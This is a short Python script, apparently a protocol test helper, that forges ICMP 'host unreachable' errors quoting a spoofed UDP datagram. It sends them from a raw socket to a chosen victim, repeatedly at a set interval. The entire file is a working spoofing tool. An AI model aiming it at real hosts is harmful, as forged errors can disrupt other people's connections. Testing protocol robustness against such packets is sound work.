#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Forge ICMP "destination unreachable" (type 3, code 1, host unreachable)
errors, as anyone on the path can: send VICTIM, from a raw socket, COUNT
errors every INTERVAL seconds, each quoting an IPv4 UDP datagram
QSRC:QSPORT -> QDST:QDPORT that VICTIM never sent.  Prints how many it
sent.

usage: icmp_forge.py VICTIM QSRC:QSPORT QDST:QDPORT COUNT INTERVAL"""

import socket
import struct
import sys
import time

ICMP_DEST_UNREACH = 3
ICMP_HOST_UNREACH = 1


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def quoted(src, sport, dst, dport):
    """The start of the datagram the error is about: IPv4 and UDP headers,
    then what looks like the start of an ovl DATA header."""
    payload = bytes([0x12, 1, 0, 0, 0, 0, 0, 1]) + bytes(8)
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload),
                     0x1234, 0x4000, 63, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp + payload


def unreachable(quote):
    msg = struct.pack("!BBHI", ICMP_DEST_UNREACH, ICMP_HOST_UNREACH, 0, 0) + quote
    return msg[:2] + struct.pack("!H", checksum(msg)) + msg[4:]


def hostport(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def main():
    if len(sys.argv) != 6:
        sys.exit(__doc__.split("\n\n")[-1])
    victim = sys.argv[1]
    (src, sport), (dst, dport) = hostport(sys.argv[2]), hostport(sys.argv[3])
    count, interval = int(sys.argv[4]), float(sys.argv[5])
    msg = unreachable(quoted(src, sport, dst, dport))
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for i in range(count):
        if i:
            time.sleep(interval)
        sock.sendto(msg, (victim, 0))
    print(f"sent {count} ICMP unreachable to {victim} quoting "
          f"{src}:{sport} -> {dst}:{dport}")


if __name__ == "__main__":
    main()
